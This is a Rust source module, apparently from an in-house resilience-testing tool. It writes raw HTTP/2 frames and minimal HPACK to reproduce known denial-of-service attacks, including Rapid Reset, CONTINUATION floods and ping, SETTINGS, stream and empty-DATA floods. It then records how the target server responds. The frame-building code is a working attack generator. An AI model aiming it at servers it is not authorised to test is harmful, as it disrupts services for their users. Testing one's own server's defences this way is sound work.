//! `h2-frames`: HTTP/2 spoken frame by frame over TLS (ALPN `h2`), to send the sequences
//! the well-known HTTP/2 denial-of-service attacks are made of:
//!
//! - `rapid-reset` (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) at once, stream after
//!   stream: the server starts work it is never asked to finish.
//! - `continuation` (CVE-2024-27316 and kin): one HEADERS without END_HEADERS, then
//!   CONTINUATION frames without end: a header block the server must bound.
//! - `stream-flood`: many requests at once, past `max_concurrent_streams` (100).
//! - `ping-flood` (CVE-2019-9512): PINGs, each owed an ACK.
//! - `settings-flood` (CVE-2019-9515): SETTINGS, each owed an ACK.
//! - `empty-data` (CVE-2019-9518): a ballot request whose body is empty DATA frames
//!   without END_STREAM: work per frame, no progress.
//!
//! Written by hand — frames and a minimal HPACK (literal fields, static-table names, no
//! Huffman, no dynamic table) — because the `h2` crate (and hyper over it) does not expose
//! a raw frame writer: it enforces the protocol on the client side too, so it cannot send
//! a RST_STREAM flood, an endless CONTINUATION or an unasked SETTINGS storm.
//!
//! What the server did is counted per connection in `outcomes`: GOAWAY with its error
//! code, RST_STREAMs by code, answers (HEADERS), PING and SETTINGS acks, a close without a
//! GOAWAY, or the connection still open when `hold_ms` ran out; the time from the attack's
//! first frame to the close is `close_after`.

use std::net::IpAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use ipnet::IpNet;
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::time::timeout_at;

use super::hold::{open_tcp, open_tls_alpn, Driver, Next, Shared};
use super::probe::{check_lanes, driver, name_of};
use super::{check_tls, BoxFuture, Kind, Plan, PlanContext, Window};
use crate::net::Target;
use crate::report::Stats;
use crate::scenario::Scenario;

/// Frames written per write call: the server sees them together, as an attack tool would
/// send them, and the task yields between batches so it cannot starve the runtime.
const BATCH_FRAMES: usize = 64;
/// Largest frame payload read (our SETTINGS leave the default 16,384); a larger one is a
/// broken stream.
const MAX_READ_FRAME: usize = 16_384;
/// Longest wait for the server's SETTINGS after the preface.
const SETTINGS_WAIT: Duration = Duration::from_secs(2);

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct H2Frames {
    pub name: String,
    pub connections: usize,
    pub sources: IpNet,
    #[serde(default)]
    pub rate_per_s: Option<f64>,
    pub attack: Attack,
    /// Attack frames (or streams) per connection (1..=100000).
    #[serde(default = "default_frames")]
    pub frames: usize,
    /// How long one connection attacks and waits for the server's reaction, in ms
    /// (1..=60000); then it is dropped and the slot opens the next.
    #[serde(default = "default_hold_ms")]
    pub hold_ms: u64,
}

fn default_frames() -> usize {
    1000
}
fn default_hold_ms() -> u64 {
    5000
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    RapidReset,
    Continuation,
    StreamFlood,
    PingFlood,
    SettingsFlood,
    EmptyData,
}

// Frame types and flags (RFC 9113 §6).
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const CANCEL: u32 = 0x8;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// One frame: the 9-byte header (length, type, flags, stream id), then the payload.
pub fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// An HPACK integer (RFC 7541 §5.1) with an `n`-bit prefix, the high bits `flags`.
pub fn hpack_int(out: &mut Vec<u8>, flags: u8, n: u32, mut v: usize) {
    let max = (1usize << n) - 1;
    if v < max {
        out.push(flags | v as u8);
        return;
    }
    out.push(flags | max as u8);
    v -= max;
    while v >= 128 {
        out.push((v % 128) as u8 | 0x80);
        v /= 128;
    }
    out.push(v as u8);
}

/// A string literal, no Huffman (RFC 7541 §5.2).
fn hpack_str(out: &mut Vec<u8>, s: &[u8]) {
    hpack_int(out, 0x00, 7, s.len());
    out.extend_from_slice(s);
}

/// A literal field without indexing, its name from the static table (RFC 7541 §6.2.2):
/// nothing enters the dynamic table, so every block stands alone.
fn literal_indexed_name(out: &mut Vec<u8>, name_index: usize, value: &[u8]) {
    hpack_int(out, 0x00, 4, name_index);
    hpack_str(out, value);
}

/// A literal field without indexing with a new name.
fn literal_new_name(out: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    out.push(0x00);
    hpack_str(out, name);
    hpack_str(out, value);
}

/// A request's header block: `:method` and `:scheme` as static-table entries (2 GET,
/// 3 POST; 7 https), `:path` (4) and `:authority` (1) as literals, and for a POST the
/// ballot route's `content-type` (31).
pub fn request_block(post: bool, path: &str, authority: &str) -> Vec<u8> {
    let mut b = vec![if post { 0x83 } else { 0x82 }, 0x87];
    literal_indexed_name(&mut b, 4, path.as_bytes());
    literal_indexed_name(&mut b, 1, authority.as_bytes());
    if post {
        literal_indexed_name(&mut b, 31, b"application/json");
    }
    b
}

/// RFC 9113 §7's names, for the report.
pub fn error_name(code: u32) -> String {
    let name = match code {
        0x0 => "NO_ERROR",
        0x1 => "PROTOCOL_ERROR",
        0x2 => "INTERNAL_ERROR",
        0x3 => "FLOW_CONTROL_ERROR",
        0x4 => "SETTINGS_TIMEOUT",
        0x5 => "STREAM_CLOSED",
        0x6 => "FRAME_SIZE_ERROR",
        0x7 => "REFUSED_STREAM",
        0x8 => "CANCEL",
        0x9 => "COMPRESSION_ERROR",
        0xa => "CONNECT_ERROR",
        0xb => "ENHANCE_YOUR_CALM",
        0xc => "INADEQUATE_SECURITY",
        0xd => "HTTP_1_1_REQUIRED",
        _ => return format!("0x{code:x}"),
    };
    name.to_owned()
}

/// The attack's frames from `from` to `to` (frame numbers), appended to `out`: what one
/// batch writes. Frame 0 opens what the later ones build on (continuation, empty-data).
pub fn attack_frames(attack: Attack, authority: &str, from: usize, to: usize, out: &mut Vec<u8>) {
    for i in from..to {
        // Client streams are odd: 1, 3, 5, ...
        let stream = 2 * i as u32 + 1;
        match attack {
            Attack::RapidReset => {
                let block = request_block(false, "/healthz", authority);
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
                frame(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            }
            Attack::StreamFlood => {
                let block = request_block(false, "/healthz", authority);
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
            }
            Attack::Continuation => {
                let mut block = Vec::new();
                if i == 0 {
                    block = request_block(true, "/v1/ballots", authority);
                }
                literal_new_name(&mut block, format!("x-c{i}").as_bytes(), &[b'a'; 1000]);
                let kind = if i == 0 { HEADERS } else { CONTINUATION };
                frame(out, kind, 0, 1, &block);
            }
            Attack::PingFlood => frame(out, PING, 0, 0, &(i as u64).to_be_bytes()),
            Attack::SettingsFlood => {
                // SETTINGS_INITIAL_WINDOW_SIZE = 65,535 (its default): legal, and each
                // one owes an ACK.
                let mut p = 0x4u16.to_be_bytes().to_vec();
                p.extend_from_slice(&65_535u32.to_be_bytes());
                frame(out, SETTINGS, 0, 0, &p);
            }
            Attack::EmptyData => {
                if i == 0 {
                    let block = request_block(true, "/v1/ballots", authority);
                    frame(out, HEADERS, END_HEADERS, 1, &block);
                } else {
                    frame(out, DATA, 0, 1, &[]);
                }
            }
        }
    }
}

impl Kind for H2Frames {
    fn name(&self) -> &str {
        &self.name
    }

    fn check(&self, s: &Scenario) -> anyhow::Result<()> {
        let name = &self.name;
        check_lanes(name, self.connections, &self.sources, self.rate_per_s)?;
        check_tls(name, s)?;
        anyhow::ensure!(
            (1..=100_000).contains(&self.frames),
            "task {name}: frames must be in 1..=100000"
        );
        anyhow::ensure!(
            (1..=60_000).contains(&self.hold_ms),
            "task {name}: hold_ms must be in 1..=60000"
        );
        Ok(())
    }

    fn max_sockets(&self) -> usize {
        self.connections
    }

    fn plan(&self, cx: &mut PlanContext<'_>) -> anyhow::Result<Box<dyn Plan>> {
        Ok(Box::new(H2Plan {
            driver: driver(self.connections, self.rate_per_s, self.sources),
            attack: Arc::new(Onslaught {
                attack: self.attack,
                authority: cx.host.to_owned(),
                frames: self.frames,
                hold: Duration::from_millis(self.hold_ms),
            }),
        }))
    }
}

struct Onslaught {
    attack: Attack,
    authority: String,
    frames: usize,
    hold: Duration,
}

struct H2Plan {
    driver: Driver,
    attack: Arc<Onslaught>,
}

impl Plan for H2Plan {
    fn run(self: Box<Self>, target: Arc<Target>, window: Window) -> BoxFuture<'static, Stats> {
        let stats = Shared::default();
        let (attack, st) = (self.attack, stats.clone());
        Box::pin(self.driver.drive(window, stats, move |ip, deadline| {
            one(target.clone(), ip, attack.clone(), deadline, st.clone())
        }))
    }
}

/// What the server sent on one connection, counted as it came.
#[derive(Debug, Default)]
pub struct Seen {
    pub goaway: Option<u32>,
    pub resets: std::collections::BTreeMap<u32, u64>,
    pub answers: u64,
    pub ping_acks: u64,
    pub settings_acks: u64,
    /// The server's own SETTINGS (not acks).
    pub settings: u64,
    /// Whether the connection ended (EOF, reset, a broken frame) before the hold ran out.
    pub closed: bool,
}

impl Seen {
    fn frame(&mut self, kind: u8, flags: u8, payload: &[u8]) {
        match kind {
            GOAWAY if payload.len() >= 8 => {
                self.goaway = Some(u32::from_be_bytes([
                    payload[4], payload[5], payload[6], payload[7],
                ]));
            }
            RST_STREAM if payload.len() >= 4 => {
                let code = u32::from_be_bytes([payload[0], payload[1], payload[2], payload[3]]);
                *self.resets.entry(code).or_default() += 1;
            }
            HEADERS => self.answers += 1,
            PING if flags & ACK != 0 => self.ping_acks += 1,
            SETTINGS if flags & ACK != 0 => self.settings_acks += 1,
            SETTINGS => self.settings += 1,
            _ => {}
        }
    }
}

/// Reads one frame: its type, flags and payload; `None` at the end of the stream.
async fn read_frame<R: AsyncRead + Unpin>(r: &mut R, buf: &mut Vec<u8>) -> Option<(u8, u8)> {
    let mut h = [0u8; 9];
    r.read_exact(&mut h).await.ok()?;
    let len = u32::from_be_bytes([0, h[0], h[1], h[2]]) as usize;
    if len > MAX_READ_FRAME {
        return None;
    }
    buf.resize(len, 0);
    r.read_exact(buf).await.ok()?;
    Some((h[3], h[4]))
}

/// Reads until the server closes or `until`, counting into `seen`.
async fn read_all<R: AsyncRead + Unpin>(r: &mut R, until: Instant, seen: &mut Seen) {
    let mut buf = Vec::with_capacity(1024);
    loop {
        match timeout_at(until.into(), read_frame(r, &mut buf)).await {
            Ok(Some((kind, flags))) => seen.frame(kind, flags, &buf),
            Ok(None) => {
                seen.closed = true;
                return;
            }
            Err(_) => return,
        }
    }
}

/// Writes the attack in batches until every frame is out, the write fails, or `until`.
async fn write_all_frames<W: AsyncWrite + Unpin>(w: &mut W, a: &Onslaught, until: Instant) {
    let mut out = Vec::new();
    let mut i = 0;
    while i < a.frames && Instant::now() < until {
        let to = (i + BATCH_FRAMES).min(a.frames);
        out.clear();
        attack_frames(a.attack, &a.authority, i, to, &mut out);
        let wrote = timeout_at(until.into(), async {
            w.write_all(&out).await?;
            w.flush().await
        })
        .await;
        if !matches!(wrote, Ok(Ok(()))) {
            return;
        }
        i = to;
        tokio::task::yield_now().await;
    }
}

/// One attacking connection: TLS with ALPN h2, the preface and SETTINGS exchanged, then
/// the attack written while what the server sends back is read.
async fn one(
    target: Arc<Target>,
    ip: IpAddr,
    a: Arc<Onslaught>,
    deadline: Instant,
    stats: Shared,
) -> Next {
    let label = &name_of(&a.attack);
    let began = Instant::now();
    let Some(tcp) = open_tcp(&target, ip, deadline, &stats).await else {
        return Next::Pause;
    };
    let Some(mut tls) = open_tls_alpn(&target, tcp, began, deadline, &stats, true).await else {
        return Next::Again;
    };
    if tls.get_ref().1.alpn_protocol() != Some(&b"h2"[..]) {
        stats.lock().outcome(&format!("{label}: no h2 by ALPN"));
        return Next::Again;
    }
    let until = (Instant::now() + a.hold).min(deadline);
    let mut seen = Seen::default();
    // Preface and our (empty) SETTINGS; then the server's SETTINGS, which we ACK as a
    // client must before anything else is judged.
    let mut hello = PREFACE.to_vec();
    frame(&mut hello, SETTINGS, 0, 0, &[]);
    if tls.write_all(&hello).await.is_err() || tls.flush().await.is_err() {
        stats.lock().fail("reset");
        return Next::Again;
    }
    let settled = Instant::now() + SETTINGS_WAIT;
    let mut buf = Vec::new();
    while seen.settings == 0 {
        match timeout_at(settled.min(until).into(), read_frame(&mut tls, &mut buf)).await {
            Ok(Some((kind, flags))) => seen.frame(kind, flags, &buf),
            _ => break,
        }
    }
    if seen.settings == 0 {
        stats
            .lock()
            .outcome(&format!("{label}: no settings from the server"));
        return Next::Again;
    }
    let mut ack = Vec::new();
    frame(&mut ack, SETTINGS, ACK, 0, &[]);
    if tls.write_all(&ack).await.is_err() {
        stats.lock().fail("reset");
        return Next::Again;
    }
    let attacked = Instant::now();
    let (mut rd, mut wr) = tokio::io::split(tls);
    {
        let reader = read_all(&mut rd, until, &mut seen);
        let writer = write_all_frames(&mut wr, &a, until);
        tokio::pin!(reader, writer);
        let mut written = false;
        loop {
            tokio::select! {
                _ = &mut reader => break,
                _ = &mut writer, if !written => written = true,
            }
        }
    }
    let mut st = stats.lock();
    record(&mut st, label, &seen);
    if seen.closed {
        st.closed_by_server += 1;
        st.close_after_us
            .saturating_record(super::us_since(attacked));
    }
    Next::Again
}

/// Counts one connection's `seen` under the attack's label.
pub fn record(st: &mut Stats, label: &str, seen: &Seen) {
    let end = match (seen.goaway, seen.closed) {
        (Some(code), _) => format!("goaway {}", error_name(code)),
        (None, true) => "closed without goaway".to_owned(),
        (None, false) => "still open at hold_ms".to_owned(),
    };
    st.outcome(&format!("{label}: {end}"));
    for (code, n) in &seen.resets {
        st.outcomes_add(&format!("{label}: rst_stream {}", error_name(*code)), *n);
    }
    for (what, n) in [
        ("answers", seen.answers),
        ("ping acks", seen.ping_acks),
        ("settings acks", seen.settings_acks),
    ] {
        if n > 0 {
            st.outcomes_add(&format!("{label}: {what}"), n);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hpack_integers_follow_rfc7541_c1() {
        // C.1.1: 10 with a 5-bit prefix; C.1.2: 1337 with a 5-bit prefix.
        let mut out = Vec::new();
        hpack_int(&mut out, 0, 5, 10);
        assert_eq!(out, [0x0a]);
        out.clear();
        hpack_int(&mut out, 0, 5, 1337);
        assert_eq!(out, [0x1f, 0x9a, 0x0a]);
    }

    /// The block's bytes, by RFC 7541's layout (that a real server decodes it is the
    /// integration test's job: stream-flood's requests are answered).
    #[test]
    fn a_request_block_is_static_entries_then_literals() {
        let b = request_block(false, "/healthz", "localhost:1");
        assert_eq!(&b[..2], &[0x82, 0x87]);
        assert_eq!(&b[2..4], &[0x04, 8]);
        assert_eq!(&b[4..12], b"/healthz");
        assert_eq!(&b[12..14], &[0x01, 11]);
        let post = request_block(true, "/v1/ballots", "h");
        // content-type is static entry 31: 4-bit prefix 15, then 16.
        assert!(post.windows(3).any(|w| w == [0x0f, 0x10, 16]));
    }

    #[test]
    fn rapid_reset_frames_pair_each_request_with_its_cancel() {
        let mut out = Vec::new();
        attack_frames(Attack::RapidReset, "h", 0, 2, &mut out);
        let mut at = 0;
        let mut seen = Vec::new();
        while at < out.len() {
            let len = u32::from_be_bytes([0, out[at], out[at + 1], out[at + 2]]) as usize;
            let stream = u32::from_be_bytes([out[at + 5], out[at + 6], out[at + 7], out[at + 8]]);
            seen.push((out[at + 3], stream));
            at += 9 + len;
        }
        assert_eq!(
            seen,
            [(HEADERS, 1), (RST_STREAM, 1), (HEADERS, 3), (RST_STREAM, 3)]
        );
    }

    #[test]
    fn a_goaway_is_reported_by_its_code() {
        let mut seen = Seen::default();
        let mut p = 0u32.to_be_bytes().to_vec();
        p.extend_from_slice(&0xbu32.to_be_bytes());
        seen.frame(GOAWAY, 0, &p);
        seen.frame(RST_STREAM, 0, &7u32.to_be_bytes());
        seen.closed = true;
        let mut st = Stats::default();
        record(&mut st, "rapid-reset", &seen);
        assert_eq!(st.outcomes["rapid-reset: goaway ENHANCE_YOUR_CALM"], 1);
        assert_eq!(st.outcomes["rapid-reset: rst_stream REFUSED_STREAM"], 1);
    }
}
